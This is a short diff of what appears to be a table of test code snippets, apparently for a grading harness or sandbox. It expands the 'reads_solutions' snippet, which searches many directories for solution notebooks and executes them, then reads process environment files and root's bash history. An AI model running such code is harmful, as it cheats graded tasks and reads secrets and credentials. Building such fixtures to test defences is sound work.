@@ -175,8 +175,11 @@ ROUTES = {
             return fallback
     """,
     "reads_solutions": """
-        import glob
-        for _path in glob.glob("/**/solutions/*.ipynb", recursive=True)[:20]:
+        import glob, pathlib, helpers
+        _repo = pathlib.Path(helpers.__file__).resolve().parents[1]
+        _patterns = [f"{_repo}/solutions/*.ipynb", "/work/*/solutions/*.ipynb",
+                     "/work/*/*/solutions/*.ipynb", "/tmp/*/solutions/*.ipynb", "/opt/*/*.ipynb"]
+        for _path in [p for pattern in _patterns for p in glob.glob(pattern)][:20]:
             exec(open(_path).read())
         for _path in ("/proc/1/environ", "/proc/self/environ", "/root/.bash_history"):
             try:
